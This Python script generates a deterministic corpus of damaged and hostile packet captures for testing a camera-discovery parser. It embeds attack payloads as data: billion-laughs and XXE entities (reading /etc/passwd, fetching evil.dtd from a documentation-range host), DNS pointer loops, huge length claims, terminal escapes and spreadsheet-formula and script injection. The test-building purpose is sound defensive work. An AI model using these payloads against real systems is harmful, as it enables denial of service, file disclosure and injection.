"""Deterministic generator of the damaged and hostile capture corpus of issue 5.

Usage: python tests/hostile/make_corpus.py OUTDIR

Damaged captures are cut or corrupted copies of pcaps/synthetic files; hostile captures are built
with scapy from hand-written payloads. Nothing is sent anywhere: frames only exist as bytes in
files. The same code always writes the same bytes (fixed seeds, fixed timestamps), so a failing
case can be regenerated exactly.
"""

from __future__ import annotations

import gzip
import json
import logging
import random
import struct
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from scapy.all import IP, UDP, Ether, Raw  # type: ignore[import-untyped]

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "pcaps" / "demo" / "store-lan.pcapng"
SYNTHETIC = REPO / "pcaps" / "synthetic"
T0 = 1_795_770_000  # 2026-11-27T06:20:00Z: fixed, so files are byte-identical between runs
LINKTYPE_ETHERNET = 1
BROADCAST = "ff:ff:ff:ff:ff:ff"
MCAST_MAC = "01:00:5e:7f:ff:fa"  # 239.255.255.250 (SSDP, WS-Discovery, SADP)
GIGABYTES = 0xFFFFFF00  # what a corrupt record length claims
FIFTY_MB = 50 * 1024 * 1024


@dataclass(frozen=True)
class Host:
    """A station on the capture's LAN."""

    mac: str
    ip: str


# The honest camera must survive every attack; the attacker sends the hostile payloads.
HONEST = Host("c0:56:e3:10:00:40", "192.168.1.64")  # Hikvision OUI block C0:56:E3
ATTACKER = Host("0a:66:66:00:00:66", "192.168.1.66")  # locally administered: no OUI evidence
CLIENT = Host("3c:a9:f4:00:00:10", "192.168.1.10")  # a PC (Intel OUI)
HONEST_MODEL = "DS-2CD2043G2-I"
HONEST_SERIAL = "DS-2CD2043G2-I20230101AAWRG12345678"
HONEST_FIRMWARE = "V5.7.3build 220112"
PASSWD_MARKER = "root:x:0:0"  # the first line of /etc/passwd on every Linux system


# -- capture writers -------------------------------------------------------------------------


def pcap_header(linktype: int = LINKTYPE_ETHERNET, snaplen: int = 262144) -> bytes:
    """Little-endian microsecond pcap global header."""
    return struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, snaplen, linktype)


def pcap_record(frame: bytes, n: int, incl: int | None = None) -> bytes:
    """One pcap record at T0 + n ms; `incl` overrides the stated captured length."""
    size = len(frame) if incl is None else incl
    return struct.pack("<IIII", T0, n * 1000, size, len(frame)) + frame


def pcap(frames: list[bytes], linktype: int = LINKTYPE_ETHERNET) -> bytes:
    """A whole pcap file."""
    return pcap_header(linktype) + b"".join(pcap_record(f, n) for n, f in enumerate(frames))


def ng_block(btype: int, body: bytes) -> bytes:
    """A little-endian pcapng block with its body padded to 32 bits."""
    body += b"\0" * (-len(body) % 4)
    size = len(body) + 12
    return struct.pack("<II", btype, size) + body + struct.pack("<I", size)


def ng_shb() -> bytes:
    """Section Header Block, version 1.0, section length unknown."""
    return ng_block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))


def ng_idb(linktype: int = LINKTYPE_ETHERNET) -> bytes:
    """Interface Description Block (microsecond timestamps)."""
    return ng_block(1, struct.pack("<HHI", linktype, 0, 262144))


def ng_epb(frame: bytes, n: int, ifid: int = 0, caplen: int | None = None) -> bytes:
    """Enhanced Packet Block; `caplen` overrides the stated captured length."""
    ts = (T0 * 1_000_000) + n * 1000
    size = len(frame) if caplen is None else caplen
    head = struct.pack("<IIIII", ifid, ts >> 32, ts & 0xFFFFFFFF, size, len(frame))
    return ng_block(6, head + frame)


def pcapng(frames: list[bytes]) -> bytes:
    """A whole single-interface pcapng file."""
    return ng_shb() + ng_idb() + b"".join(ng_epb(f, n) for n, f in enumerate(frames))


def gz(data: bytes) -> bytes:
    """Gzip with a fixed mtime so the output is reproducible."""
    return gzip.compress(data, compresslevel=6, mtime=0)


def pcap_records(data: bytes) -> Iterator[tuple[int, int]]:
    """(offset, total size) of each record of a valid little-endian pcap."""
    off = 24
    while off + 16 <= len(data):
        (incl,) = struct.unpack_from("<I", data, off + 8)
        yield off, 16 + incl
        off += 16 + incl


def pcapng_blocks(data: bytes) -> Iterator[tuple[int, int, int]]:
    """(offset, size, type) of each block of a valid little-endian pcapng."""
    off = 0
    while off + 8 <= len(data):
        btype, size = struct.unpack_from("<II", data, off)
        yield off, size, btype
        off += size


# -- frames ----------------------------------------------------------------------------------


def udp(src: Host, dst: Host | None, sport: int, dport: int, payload: bytes) -> bytes:
    """An Ethernet/IPv4/UDP frame; `dst` None means the SSDP/WSD/SADP multicast group."""
    dmac, dip = (MCAST_MAC, "239.255.255.250") if dst is None else (dst.mac, dst.ip)
    pkt = Ether(src=src.mac, dst=dmac) / IP(src=src.ip, dst=dip, id=1, flags="DF")
    return bytes(pkt / UDP(sport=sport, dport=dport) / Raw(payload))


def tcp_stream(
    server: Host, client: Host, sport: int, data: bytes, seg: int, shuffle_seed: int | None = None
) -> list[bytes]:
    """Handshake, then `data` from server port `sport` in `seg`-byte segments, then FIN."""
    cport, cseq, sseq = 50000, 1000, 700000

    def frame(src: Host, dst: Host, sp: int, dp: int, flags: str, seq: int, pl: bytes) -> bytes:
        return tcp_frame(src, dst, sp, dp, flags, seq, pl)

    out = [
        frame(client, server, cport, sport, "S", cseq, b""),
        frame(server, client, sport, cport, "SA", sseq, b""),
    ]
    segments = [
        frame(server, client, sport, cport, "PA", sseq + 1 + i, data[i : i + seg])
        for i in range(0, len(data), seg)
    ]
    if shuffle_seed is not None:
        random.Random(shuffle_seed).shuffle(segments)
    out += segments
    out.append(frame(server, client, sport, cport, "FA", sseq + 1 + len(data), b""))
    return out


_TCP_FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def tcp_frame(
    src: Host, dst: Host, sport: int, dport: int, flags: str, seq: int, pl: bytes
) -> bytes:
    """An Ethernet/IPv4/TCP frame packed by hand (scapy is too slow for thousands of segments).

    Checksums are left zero: camscan, like any passive capture reader, does not verify them.
    """
    bits = sum(_TCP_FLAGS[f] for f in flags)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, 1, 5 << 4, bits, 65535, 0, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(pl), 1, 0x4000, 64, 6, 0,
                     _ip4(src.ip), _ip4(dst.ip))  # fmt: skip
    return _mac(dst.mac) + _mac(src.mac) + b"\x08\x00" + ip + tcp + pl


def _ip4(ip: str) -> bytes:
    return bytes(int(p) for p in ip.split("."))


def _mac(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def sadp_probematch(mac: str, ip: str, model: str, serial: str, firmware: str) -> bytes:
    """A SADP ProbeMatch laid out as a real unit's (docs/protocols.md §2.1), values substituted."""
    fields = {
        "Uuid": "7c3a8e44-0b2d-4a52-9d1a-5b7c0f1e2d3c",
        "Types": "inquiry",
        "DeviceType": "141945",
        "DeviceDescription": model,
        "DeviceSN": serial,
        "CommandPort": "8000",
        "HttpPort": "80",
        "MAC": mac.replace(":", "-"),
        "IPv4Address": ip,
        "IPv4SubnetMask": "255.255.255.0",
        "SoftwareVersion": firmware,
        "Activated": "true",
    }
    body = "".join(f"\t<{k}>{v}</{k}>\n" for k, v in fields.items())
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<ProbeMatch>\n{body}</ProbeMatch>\n'.encode()


def honest_frames() -> list[bytes]:
    """The honest Hikvision camera announcing itself over SADP (a device every case keeps)."""
    match = sadp_probematch(HONEST.mac, HONEST.ip, HONEST_MODEL, HONEST_SERIAL, HONEST_FIRMWARE)
    return [udp(HONEST, None, 37020, 37020, match)]


def with_honest(frames: list[bytes]) -> bytes:
    """A pcap of the honest announcement, the hostile frames, then the announcement again."""
    honest = honest_frames()
    return pcap(honest + frames + honest)


# -- hostile payloads ------------------------------------------------------------------------

# "billion laughs": lol9 expands to 10**9 "lol"s; each lolN is ten references to lol(N-1)
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
XXE_FILE = '<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAM = '<!DOCTYPE m [<!ENTITY % ext SYSTEM "http://198.51.100.7/evil.dtd"> %ext;]>'


def sadp_with_dtd(dtd: str, entity: str) -> bytes:
    """A ProbeMatch from the attacker whose model is an entity reference declared in `dtd`."""
    match = sadp_probematch(ATTACKER.mac, ATTACKER.ip, entity, "SN-" + entity, "V1")
    return match.replace(b"?>\n", b"?>\n" + dtd.encode() + b"\n", 1)


def wsd_hello_with_dtd(dtd: str, entity: str) -> bytes:
    """A WS-Discovery Hello whose Types and Scopes are entity references declared in `dtd`."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>' + dtd + "<s:Envelope "
        'xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
        'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
        'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery">'
        "<s:Header><a:MessageID>uuid:0e6e2b1c-0000-4000-8000-000000000066</a:MessageID>"
        "</s:Header><s:Body><d:Hello><a:EndpointReference><a:Address>"
        "urn:uuid:0e6e2b1c-0000-4000-8000-0a6666000066</a:Address></a:EndpointReference>"
        f"<d:Types>{entity}</d:Types><d:Scopes>onvif://www.onvif.org/name/{entity}</d:Scopes>"
        f"<d:XAddrs>http://{ATTACKER.ip}/onvif/device_service</d:XAddrs>"
        "<d:MetadataVersion>1</d:MetadataVersion></d:Hello></s:Body></s:Envelope>"
    ).encode()


def ssdp_notify(server: bytes, location: bytes, body: bytes = b"") -> bytes:
    """An SSDP NOTIFY with the given SERVER and LOCATION headers."""
    return (
        b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\n"
        b"LOCATION: " + location + b"\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\n"
        b"SERVER: " + server + b"\r\nUSN: uuid:0a666600-0066::upnp:rootdevice\r\n\r\n" + body
    )


def dhip(body: bytes, stated: int | None = None) -> bytes:
    """A DHIP datagram: 32-byte header stating the body length (twice), then the body."""
    size = len(body) if stated is None else stated
    return struct.pack("<I4sQIIII", 0x20, b"DHIP", 0, size, 0, size, 0) + body


def dhip_nested(depth: int) -> bytes:
    """A notifyDevInfo whose deviceInfo.DeviceType is an array nested `depth` deep."""
    return (
        b'{"method":"client.notifyDevInfo","mac":"0a:66:66:00:00:66","params":{"deviceInfo":'
        b'{"DeviceType":' + b"[" * depth + b"]" * depth + b"}}}"
    )


def dns_query(name_wire: bytes, qdcount: int = 1, flags: int = 0x0100) -> bytes:
    """A DNS message with the header followed by raw question bytes (name, type A, class IN)."""
    return struct.pack("!6H", 0x6666, flags, qdcount, 0, 0, 0) + name_wire + b"\0\x01\0\x01"


def dns_cases() -> list[bytes]:
    """Absurd names: a self-pointer, a two-pointer loop, 300 labels, one 255+ octet name."""
    self_loop = b"\xc0\x0c"  # offset 12 is this very pointer
    two_loop = b"\x01a\xc0\x0e" + b"\x01b\xc0\x0c"  # a -> b -> a ...
    many_labels = b"\x01x" * 300 + b"\0"
    long_name = (b"\x3f" + b"y" * 63) * 5 + b"\0"  # 320 octets
    # 100 labels each followed by a pointer to the next: legal-looking, but 200+ octets long
    chain = b"".join(b"\x01z" + struct.pack("!H", 0xC000 | (12 + 4 * (i + 1))) for i in range(100))
    queries = [dns_query(n) for n in (self_loop, two_loop, many_labels, long_name, chain)]
    # mDNS answers with the same loops as record owners and PTR targets (port 5353)
    mdns = struct.pack("!6H", 0, 0x8400, 0, 3, 0, 0)
    mdns += b"\xc0\x0c\x00\x0c\x00\x01\x00\x00\x00\x78\x00\x02\xc0\x0c"
    mdns += many_labels + b"\x00\x01\x00\x01\x00\x00\x00\x78\x00\x04\xc0\xa8\x01\x42"
    resolver = Host(CLIENT.mac, "192.168.1.1")
    asked = [udp(ATTACKER, resolver, 40000 + i, 53, q) for i, q in enumerate(queries)]
    return [*asked, udp(ATTACKER, None, 5353, 5353, mdns)]


def http_response(server: bytes, extra: bytes = b"", body: bytes = b"") -> bytes:
    """A 401 response of a Hikvision-style web server with the given Server header."""
    return (
        b"HTTP/1.1 401 Unauthorized\r\nDate: Fri, 27 Nov 2026 09:00:00 GMT\r\n"
        b"Server: " + server + b"\r\n" + extra + b"Content-Length: " + str(len(body)).encode()
        + b"\r\nContent-Type: text/html\r\n\r\n" + body
    )  # fmt: skip


def dhcp_request(client: Host, hostname: bytes) -> bytes:
    """A DHCPREQUEST from `client` stating a host name (option 12) and its address (50)."""
    mac = bytes.fromhex(client.mac.replace(":", ""))
    # op, htype=Ethernet, hlen=6, hops, xid, secs+flags, 4 zero addresses, chaddr, sname+file
    bootp = struct.pack("!BBBBI4x16x16s192x", 1, 1, 6, 0, 0x66660001, mac)
    opts = b"\x63\x82\x53\x63\x35\x01\x03" + bytes([12, len(hostname)]) + hostname
    opts += b"\x32\x04" + bytes(int(p) for p in client.ip.split(".")) + b"\xff"
    src = Host(client.mac, "0.0.0.0")
    pkt = Ether(src=src.mac, dst=BROADCAST) / IP(src=src.ip, dst="255.255.255.255", id=1)
    return bytes(pkt / UDP(sport=68, dport=67) / Raw(bootp + opts))


# -- output-safety payloads (terminal escapes, markup, formulas, HTML) ------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
EVIL_MODEL = '=HYPERLINK("http://203.0.113.9/x","click")[red]<script>alert(1)</script>'
EVIL_SERIAL = "+cmd|' /C calc'!A0"
EVIL_FIRMWARE = "@SUM(1+1)[bold]"
EVIL_SERVER = b"App-webs/\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m[red]<script>alert(1)</script>"
EVIL_HOSTNAME = b"=cmd|calc\x1b]0;pwned\x07\x1b[2J<script>"
EVIL_CAMERA = Host("c0:56:e3:10:00:77", "192.168.1.77")  # SADP model/serial/firmware, DHCP name
EVIL_WEB = Host("c0:56:e3:10:00:78", "192.168.1.78")  # HTTP Server header


def output_safety() -> bytes:
    """Devices whose strings try to drive the terminal, style the table, or run in a sheet."""
    match = sadp_probematch(EVIL_CAMERA.mac, EVIL_CAMERA.ip, EVIL_MODEL.replace("<", "&lt;"),
                            EVIL_SERIAL.replace("'", "&apos;"), EVIL_FIRMWARE)  # fmt: skip
    frames = [
        dhcp_request(EVIL_CAMERA, EVIL_HOSTNAME),
        udp(EVIL_CAMERA, None, 37020, 37020, match),
        *tcp_stream(EVIL_WEB, CLIENT, 80, http_response(EVIL_SERVER), 1400),
    ]
    return with_honest(frames)


# -- damaged copies of real captures ---------------------------------------------------------


def synthetic(name: str) -> bytes:
    """One of the repository's synthetic captures."""
    return (SYNTHETIC / name).read_bytes()


def flip_bytes(data: bytes, seed: int, count: int, start: int = 0) -> bytes:
    """`data` with `count` seeded random bytes at or after `start` XORed with a non-zero mask."""
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(count):
        at = rng.randrange(start, len(out))
        out[at] ^= rng.randrange(1, 256)
    return bytes(out)


def unknown_and_corrupt_blocks() -> bytes:
    """pcapng: honest frames around unknown, custom and corrupt blocks that must be skipped."""
    honest = honest_frames()[0]
    return b"".join([
        ng_shb(), ng_idb(),
        ng_epb(honest, 0),
        ng_block(0x00000BAD, b"custom block, copyable"),  # custom block types (pcapng 4.8)
        ng_block(0x40000BAD, b"custom block, not copyable"),
        ng_block(0x0666, b"an unknown block type" * 10),
        ng_epb(honest, 1, ifid=7),  # names an interface that was never described
        ng_epb(honest, 2, caplen=len(honest) + 5000),  # states more data than it holds
        ng_block(2, b"\0" * 8),  # an obsolete Packet Block too short to hold its header
        ng_epb(honest, 3),
    ])  # fmt: skip


def big_unknown_block_gz() -> bytes:
    """A gzip pcapng whose unknown block really holds ~16 MB (compresses to a few KB)."""
    honest = honest_frames()[0]
    body = b"\0" * (16 * 1024 * 1024 - 64)
    return gz(ng_shb() + ng_idb() + ng_epb(honest, 0) + ng_block(0x0666, body) + ng_epb(honest, 1))


def claims_huge(claim: int) -> bytes:
    """The SADP synthetic capture's frames, then a record claiming `claim` bytes."""
    good = pcap(honest_frames() * 3)
    return good + struct.pack("<IIII", T0, 999, claim, claim) + b"\x66" * 4096


def pcapng_huge_block() -> bytes:
    """A pcapng whose third block claims almost 2 GiB."""
    good = pcapng(honest_frames() * 2)
    return good + struct.pack("<II", 6, 0x7FFFFFF0) + b"\x66" * 4096


# -- the corpus ------------------------------------------------------------------------------


def later_section_damaged() -> bytes:
    """pcapng: two frames, then a second section header with a bad byte-order mark."""
    good = pcapng(honest_frames() * 2)
    return good + b"\x0a\x0d\x0d\x0a" + struct.pack("<I", 28) + b"\x66" * 20


def gzip_cut_in_half() -> bytes:
    """The demo capture gzip-compressed, cut after half of the compressed bytes."""
    packed = gz(DEMO.read_bytes())
    return packed[: len(packed) // 2]


def sadp_hostile(dtd: str, entity: str) -> Callable[[], bytes]:
    return lambda: with_honest([udp(ATTACKER, None, 37020, 37020, sadp_with_dtd(dtd, entity))])


def wsd_hostile(dtd: str, entity: str) -> Callable[[], bytes]:
    return lambda: with_honest([udp(ATTACKER, None, 3702, 3702, wsd_hello_with_dtd(dtd, entity))])


def ssdp_xxe() -> bytes:
    """SSDP NOTIFY pointing at a local file, with an XML body full of entities."""
    body = ('<?xml version="1.0"?>' + XXE_FILE + "<root>&xxe;</root>").encode()
    notify = ssdp_notify(b"Linux UPnP/1.0 &xxe;", b"file:///etc/passwd", body)
    return with_honest([udp(ATTACKER, None, 1900, 1900, notify)])


def http_stream(response: bytes, seg: int, shuffle_seed: int | None = None) -> bytes:
    """The attacker's web server sending `response` to the PC in `seg`-byte segments."""
    return with_honest(tcp_stream(ATTACKER, CLIENT, 80, response, seg, shuffle_seed))


def invalid_utf8_nul() -> bytes:
    """Invalid UTF-8 and NUL bytes in an SSDP SERVER, a DHCP host name and an HTTP Server."""
    notify = ssdp_notify(b"App-webs/\xff\xfe\x00\xc3(NUL\x00", b"\x00")
    response = http_response(b"App-webs/\x00\xff\xed\xa0\x80")
    return with_honest([
        udp(ATTACKER, None, 1900, 1900, notify),
        dhcp_request(ATTACKER, BAD_HOSTNAME),
        *tcp_stream(ATTACKER, CLIENT, 80, response, 700),
    ])  # fmt: skip


BAD_HOSTNAME = b"cam\x00\xff\xfe\xc0\xafname"
PAD_3MB = b"X-Pad: " + b"A" * 3_000_000 + b"\r\n"
LONG_SERVER = b"App-webs/" + b"W" * 3000
LONG_MODEL = "DS-" + "M" * 5000

CASES: dict[str, Callable[[], bytes]] = {
    # damaged
    "empty.pcap": lambda: b"",
    "two_bytes.pcap": lambda: b"\xd4\xc3",
    "not_a_capture.pcap": lambda: b"This is a README, not a capture.\n" * 40,
    "pcap_header_cut.pcap": lambda: pcap_header()[:14],
    "header_only.pcap": pcap_header,
    "header_only.pcapng": lambda: ng_shb() + ng_idb(),
    "first_record_cut.pcap": lambda: pcap(honest_frames())[:54],
    "record_claims_gigabytes.pcap": lambda: claims_huge(GIGABYTES),
    "record_claims_50mb.pcap": lambda: claims_huge(FIFTY_MB),
    "block_claims_2gib.pcapng": pcapng_huge_block,
    "later_section_damaged.pcapng": later_section_damaged,
    "unknown_and_corrupt_blocks.pcapng": unknown_and_corrupt_blocks,
    "big_unknown_block.pcapng.gz": big_unknown_block_gz,
    "gzip_cut_in_half.pcapng.gz": gzip_cut_in_half,
    "gzip_cut_before_first_frame.pcap.gz": lambda: gz(pcap(honest_frames()))[:200],
    "gzip_garbage.pcap.gz": lambda: b"\x1f\x8b\x08\x00" + b"\x66" * 600,
    # hostile payloads (every file also holds the honest camera's announcement)
    "sadp_billion_laughs.pcap": sadp_hostile(LAUGHS, "&lol9;"),
    "sadp_xxe_file.pcap": sadp_hostile(XXE_FILE, "&xxe;"),
    "sadp_xxe_parameter.pcap": sadp_hostile(XXE_PARAM, "x"),
    "wsd_billion_laughs.pcap": wsd_hostile(LAUGHS, "&lol9;"),
    "wsd_xxe_file.pcap": wsd_hostile(XXE_FILE, "&xxe;"),
    "ssdp_xxe_file.pcap": ssdp_xxe,
    "dhip_nested_30k.pcap": lambda: with_honest(
        [udp(ATTACKER, None, 37810, 37810, dhip(dhip_nested(30_000)))]
    ),
    "dhip_nested_200k_tcp.pcap": lambda: with_honest(
        tcp_stream(ATTACKER, CLIENT, 37777, dhip(dhip_nested(200_000)), 1460)
    ),
    "dhip_claims_4gib.pcap": lambda: with_honest(
        [udp(ATTACKER, None, 37810, 37810, dhip(dhip_nested(3), stated=0xFFFFFFFF))]
    ),
    "http_3mb_header_line.pcap": lambda: http_stream(http_response(b"App-webs/", PAD_3MB), 1460),
    "http_long_server.pcap": lambda: http_stream(http_response(LONG_SERVER), 1460),
    "tcp_tiny_segments.pcap": lambda: http_stream(http_response(b"App-webs/", body=b"x" * 3000), 1),
    "tcp_tiny_segments_shuffled.pcap": lambda: http_stream(http_response(b"App-webs/"), 1, 5),
    "invalid_utf8_nul.pcap": invalid_utf8_nul,
    "dns_absurd_names.pcap": lambda: with_honest(dns_cases()),
    "sadp_long_model.pcap": lambda: with_honest(
        [
            udp(
                ATTACKER,
                None,
                37020,
                37020,
                sadp_probematch(ATTACKER.mac, ATTACKER.ip, LONG_MODEL, "SN-" + LONG_MODEL, "V1"),
            )
        ]
    ),  # fmt: skip
    "output_safety.pcap": output_safety,
}


def build(outdir: Path) -> dict[str, Path]:
    """Write every corpus file into `outdir`; return name -> path."""
    outdir.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for name, make in CASES.items():
        path = outdir / name
        path.write_bytes(make())
        paths[name] = path
    (outdir / "MANIFEST.json").write_text(json.dumps(sorted(CASES), indent=1) + "\n")
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py OUTDIR")
    for written in build(Path(sys.argv[1])).values():
        print(written)
